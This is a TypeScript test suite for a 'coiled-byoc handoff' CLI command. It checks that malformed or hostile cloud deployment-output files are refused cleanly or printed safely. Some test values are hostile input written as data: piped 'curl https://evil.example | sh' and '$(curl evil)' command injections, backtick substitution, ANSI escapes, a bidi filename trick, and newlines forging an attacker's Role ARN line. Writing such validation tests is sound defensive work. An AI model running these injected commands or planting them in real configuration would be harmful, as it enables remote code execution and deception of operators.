/**
 * Hostile outputs files for `coiled-byoc handoff`: every one either gives a safe hand-off or one
 * line on stderr naming the problem, never a stack trace and never a raw control character.
 */
import { Case, Expected, Props, Result, handoff, json, utf8 } from './harness';
import { listExamples } from '../../scripts/lib/examples';
import { cdkOutputsFile, cdktfOutputsFile, terraformOutputJson } from '../cli/deployed-outputs';

const example = (cloud: 'aws' | 'gcp', name: string) => listExamples(cloud).find((e) => e.name === name)!;
const AWS_FILE: Record<string, Record<string, unknown>> = cdkOutputsFile(example('aws', 'default'));
const AWS_STACK = Object.keys(AWS_FILE)[0];
const GCP_FILE: Record<string, Record<string, unknown>> = cdktfOutputsFile(example('gcp', 'default'));
const GCP_STACK = Object.keys(GCP_FILE)[0];
const TF_FILE: Record<string, { value: unknown }> = terraformOutputJson(example('gcp', 'default'));

const withAws = (key: string, value: unknown) => ({ [AWS_STACK]: { ...AWS_FILE[AWS_STACK], [key]: value } });
const withGcp = (key: string, value: unknown) => ({ [GCP_STACK]: { ...GCP_FILE[GCP_STACK], [key]: value } });

const cases: Case[] = [];
const run = (p: Props): Result => handoff(p.bytes, p.args);
const add = (name: string, bytes: Uint8Array | Error, expect: Expected, args?: string[]) => cases.push({ cloud: 'cli', name, props: { bytes, args }, run, expect });
const refused = (err: RegExp): Expected => ({ exit: 1, err });
const printed = (out?: RegExp, notOut?: RegExp): Expected => ({ exit: 0, out, notOut });
const errno = (code: string) => Object.assign(new Error(code), { code });

// --- What the deploy tools write, in every encoding Windows and Unix produce. ---
add('cdk outputs (UTF-8)', json(AWS_FILE), printed(/Role ARN/));
add('cdk outputs with a UTF-8 BOM', new Uint8Array([0xef, 0xbb, 0xbf, ...json(AWS_FILE)]), printed(/Role ARN/));
add('cdk outputs as UTF-16LE with BOM (PowerShell >)', new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify(AWS_FILE), 'utf16le')])), printed(/Role ARN/));
add('cdk outputs as UTF-16LE without BOM', new Uint8Array(Buffer.from(JSON.stringify(AWS_FILE), 'utf16le')), printed(/Role ARN/));
add('cdk outputs as UTF-16BE with BOM', new Uint8Array(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(JSON.stringify(AWS_FILE), 'utf16le').swap16()])), printed(/Role ARN/));
add('cdktf outputs', json(GCP_FILE), printed(/Service account/));
add('terraform output -json', json(TF_FILE), printed(/Service account/));
add('terraform output -json with a UTF-8 BOM', new Uint8Array([0xef, 0xbb, 0xbf, ...json(TF_FILE)]), printed(/Service account/));
add('invalid UTF-8', new Uint8Array([0x7b, 0xff, 0xfe, 0xfd, 0x7d, 0x7d]), refused(/neither UTF-8 nor UTF-16/));
add('UTF-16 cut in half', new Uint8Array([0xff, 0xfe, 0x7b]), refused(/cut off/));
add('UTF-32', new Uint8Array(Buffer.from('{\0\0\0}\0\0\0', 'latin1')), refused(/NUL|not JSON/));
add('binary junk', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), refused(/neither UTF-8|NUL|not JSON/));
add('empty file', new Uint8Array(), refused(/not JSON/));
add('not JSON', utf8('{"oops"'), refused(/not JSON/));
add('a JSON array', json([1, 2]), refused(/not a JSON object/));
add('a JSON number', json(42), refused(/not a JSON object/));
add('a file from another tool', json({ Stack: { BucketName: 'x' } }), refused(/no Coiled workspace outputs found/));

// --- What cannot be read safely. ---
add('a missing file', errno('ENOENT'), refused(/no such file/));
add('a directory', errno('EISDIR'), refused(/is a directory/));
add('/dev/zero (a device)', errno('ENOTREG'), refused(/not a regular file/));
add('a FIFO', errno('ENOTREG'), refused(/not a regular file/));
add('a file over the size limit', Object.assign(errno('EFBIG'), { size: 70_000_000 }), refused(/larger than 64 MiB/));
add('permission denied', errno('EACCES'), refused(/permission denied/));
add('no file argument', new Uint8Array(), { exit: 2, err: /usage: coiled-byoc handoff/ }, []);
add('two file arguments', new Uint8Array(), { exit: 2, err: /usage: coiled-byoc handoff/ }, ['a.json', 'b.json']);
add('a file name with an escape sequence', errno('ENOENT'), refused(/\\u001b\[31m/), ['\u001b[31mred.json']);

// --- The ingress output: every shape the stack never writes. ---
for (const [label, value] of [
  ['[1,2]', '[1,2]'],
  ['[null]', '[null]'],
  ['ports as text', '[{"ports":"443","cidr":"10.0.0.0/8"}]'],
  ['port 0', '[{"ports":[0],"cidr":"10.0.0.0/8"}]'],
  ['no ports', '[{"ports":[],"cidr":"10.0.0.0/8"}]'],
  ['a bad CIDR', '[{"ports":[443],"cidr":"10.0.0.0/33"}]'],
  ['a CIDR with a newline', '[{"ports":[443],"cidr":"10.0.0.0/8\\nRole ARN x"}]'],
  ['not JSON', '[{'],
  ['an object', '{"ports":[443]}'],
  ['a number', 42],
] as const) {
  add(`ingress output ${label}`, json(withAws('CoiledIngress', value)), refused(/CoiledIngress/));
}
add('ingress output too long for CloudFormation', json(withAws('CoiledIngress', 'too long for an output: 312 rules, 9120 characters; copy the list from the ingress prop of the stack')), printed(/312 rules\) was too long for a CloudFormation output/));
add('ingress output from an older stack (no count)', json(withAws('CoiledIngress', 'too long for an output: see the ingress prop of the stack')), printed(/was too long for a CloudFormation output/));
add('GCP ingress output [1,2]', json(withGcp('coiled_ingress', '[1,2]')), refused(/coiled_ingress/));

// --- Values that would forge lines, recolour the terminal or run commands if printed raw. ---
const forged = 'vpc-0123456789abcdef0\n  Role ARN                           arn:aws:iam::666666666666:role/evil';
add('a newline forging a second Role ARN line', json(withAws('CoiledVpcId', forged)), refused(/CoiledVpcId = .*\\n/));
add('an external ID with a newline', json(withAws('CoiledExternalId', '7f3c9a1e5b2d8046\nRole ARN arn:aws:iam::666666666666:role/x')), refused(/CoiledExternalId/));
add('ANSI escapes in the log group', json(withAws('CoiledLogGroupName', '\u001b[2J\u001b[31mmy-team')), refused(/CoiledLogGroupName = .*\\u001b/));
add('a bidi override in the workspace name', json(withAws('CoiledWorkspaceName', 'team\u202egpj.exe')), refused(/CoiledWorkspaceName = .*\\u202e/));
add('a shell command in the GCP project', json(withGcp('coiled_project_id', 'my-project-123456; curl https://evil.example | sh')), refused(/coiled_project_id/));
add('$(...) in the service-account email', json(withGcp('coiled_control_plane_service_account_email', '$(curl evil)@my-project-123456.iam.gserviceaccount.com')), refused(/coiled_control_plane_service_account_email/));
add('a tampered key command is never printed', json(withGcp('coiled_service_account_key_command', 'gcloud iam service-accounts keys create x; curl https://evil.example | sh')), printed(/--iam-account='[^']+' --project='my-project-123456'/, /evil\.example/));
add('backticks in the region', json(withGcp('coiled_region', 'us-east1`id`')), refused(/coiled_region/));
add('a selfLink of another shape', json(withGcp('coiled_network_self_link', 'https://evil.example/projects/x/global/networks/y')), refused(/coiled_network_self_link/));
add('an over-long value is cut in the message', json(withAws('CoiledVpcId', 'x'.repeat(100_000))), refused(/\.\.\./));

// --- Every value's shape. ---
for (const [key, value] of [
  ['CoiledControlPlaneRoleArn', 'arn:aws:s3:::bucket'],
  ['CoiledControlPlaneRoleArn', 42],
  ['CoiledInstanceProfileArn', 'arn:aws:iam::123456789012:role/not-a-profile'],
  ['CoiledVpcId', 'vpc-123'],
  ['CoiledSubnetIds', ''],
  ['CoiledSubnetIds', 'subnet-0123456789abcdef0,sg-0123456789abcdef0'],
  ['CoiledSchedulerSecurityGroupId', 'sg-xyz'],
  ['CoiledClusterSecurityGroupId', null],
  ['CoiledRegion', 'mars-north-1x'],
  ['CoiledNatPublicIps', '203.0.113.300'],
  ['CoiledGiveWorkersPublicIp', 'yes'],
  ['CoiledUseSchedulerPublicIp', 1],
  ['CoiledExternalId', 'has spaces in it'],
  ['CoiledCloud', 'azure'],
  ['CoiledWorkspaceName', 'My Team'],
] as const) {
  add(`AWS output ${key} = ${JSON.stringify(value)}`, json(withAws(key, value)), refused(new RegExp(key)));
}
for (const [key, value] of [
  ['coiled_project_id', 'My Project'],
  ['coiled_region', 'us-east-1'],
  ['coiled_subnet_self_link', 'projects/p/global/networks/n'],
  ['coiled_scheduler_network_tag', 'Bad_Tag'],
  ['coiled_data_service_account_email', 'user@gmail.com'],
  ['coiled_artifact_registry_repository', 'docker.io/library/coiled'],
  ['coiled_give_workers_public_ip', 'maybe'],
  ['coiled_cloud', 'aws'],
] as const) {
  add(`GCP output ${key} = ${JSON.stringify(value)}`, json(withGcp(key, value)), refused(new RegExp(key)));
}
add('terraform shape with a bare value', json({ ...TF_FILE, coiled_region: 'us-east1' }), refused(/coiled_region is not \{"value"/));
add('a legacy domain-scoped project', json(withGcp('coiled_project_id', 'example.com:my-project')), printed(/--project='example.com:my-project'/));

// --- The external ID check of the hand-off is the construct's. ---
add('a placeholder external ID deployed anyway', json(withAws('CoiledExternalId', 'CHANGE-ME-0123456789abcdef')), printed(/WARNING: the external ID is unsafe \(it is a placeholder/));
add('a sequential external ID deployed anyway', json(withAws('CoiledExternalId', '0123456789abcdef')), printed(/WARNING: the external ID is unsafe/));
add('a random external ID', json(withAws('CoiledExternalId', 'c0ffee5a9d17e4b3826f91a0d4c7b5e2')), printed(/External ID\s+c0ffee5a9d17e4b3826f91a0d4c7b5e2/, /WARNING/));

// --- Several workspaces and other stacks in one file. ---
add('two workspaces', json({ ...AWS_FILE, ...GCP_FILE }), printed(/on AWS[\s\S]*on GCP/));
add('a Coiled stack among others', json({ Other: { BucketName: 'x' }, ...AWS_FILE }), printed(/Role ARN/));
add('a __proto__ stack name', utf8(`{"__proto__": {"x": 1}, ${JSON.stringify(AWS_FILE).slice(1)}`), printed(/Role ARN/));

// --- The secrets output: names and ids checked, every value quoted in the printed commands. ---
const secretEntry = (extra: Record<string, unknown>) => JSON.stringify([{ name: 'token', secretId: 'coiled/demo/token', environmentVariable: 'TOKEN_SECRET_NAME', value: 'set-after-deploy', ...extra }]);
add('secrets output as written', json(withAws('CoiledSecrets', secretEntry({}))), printed(/--secret-id 'coiled\/demo\/token' --secret-string file:\/\/\/dev\/stdin/));
add('secret id with a command substitution', json(withAws('CoiledSecrets', secretEntry({ secretId: "x';$(curl evil)'" }))), refused(/output CoiledSecrets: secret 1: secretId is not/));
add('secret name with an ANSI escape', json(withAws('CoiledSecrets', secretEntry({ name: 'tok\u001b[31men' }))), refused(/secret 1: name is not a secret name/));
add('secret environment variable with a newline', json(withAws('CoiledSecrets', secretEntry({ environmentVariable: 'A\nimport os' }))), refused(/environmentVariable is not an environment variable name/));
add('secrets output not a list', json(withAws('CoiledSecrets', '{"name":"token"}')), refused(/not the JSON list of secrets/));
add('GCP secret id in another shape', json(withGcp('coiled_secrets', secretEntry({ secretId: 'coiled-demo-token' }))), refused(/projects\/<project>\/secrets\/<id>/));

export const CLI_CASES = cases;
